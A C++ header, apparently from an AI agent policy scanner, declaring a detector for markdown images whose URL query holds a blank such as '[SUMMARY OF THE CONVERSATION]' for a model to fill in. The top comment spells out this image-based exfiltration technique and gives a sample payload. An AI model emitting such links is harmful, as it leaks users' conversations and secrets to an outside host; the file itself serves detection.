// Leaking image: ![chart](https://host/log?data=[SUMMARY OF THE CONVERSATION]): an image whose address has a blank that a model is to
// fill in with what it knows, and which a client then fetches without anybody's asking. For text_forms.cc alone.
//
// A blank in the query of an address, in brackets of any kind, of two words or more, one of which is a conversation's, a secret's or
// somebody's private matter. What manuals leave blank is shorter or names a thing: {user_id}, {message_text}, [YOUR_TOKEN].
// Cost: a look at the address, which ends where another begins: of a text each byte once.

#pragma once

#include <cstddef>
#include <string_view>

namespace agentmesh::policy::scan {

// `at`: of the parenthesis.
bool is_leaking_image(std::string_view text, size_t at);

}  // namespace agentmesh::policy::scan
